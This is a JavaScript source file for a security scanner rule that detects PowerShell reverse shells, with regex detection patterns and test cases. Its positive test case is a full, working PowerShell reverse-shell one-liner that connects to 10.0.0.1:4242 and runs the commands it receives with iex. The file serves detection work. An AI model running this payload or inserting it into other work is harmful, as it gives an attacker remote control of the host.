import { defineRule, perPsScript } from './rule.js';

export const rule = defineRule({
  id: 'ps_reverse_shell',
  category: 'reverse_shell',
  severity: 'critical',
  technique: 'T1059.001',
  title: 'PowerShell TCP client that reads commands from the network and runs them',
  check: perPsScript((t) => {
    if (!/sockets\.tcpclient|tcpclient\(|net\.sockets\.socket/.test(t)) return undefined;
    if (!/getstream|iex|invoke-expression|streamwriter|\.read\(|out-string/.test(t)) return undefined;
    return 'opens a TCP connection and runs whatever commands arrive on it (a PowerShell reverse shell)';
  }),
  cases: {
    positive: [[
      'powershell',
      `$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$sb=([text.encoding]::ASCII).GetBytes($o);$s.Write($sb,0,$sb.Length)}`,
    ]],
    negative: [['powershell', 'Test-NetConnection db.internal -Port 5432']],
  },
});
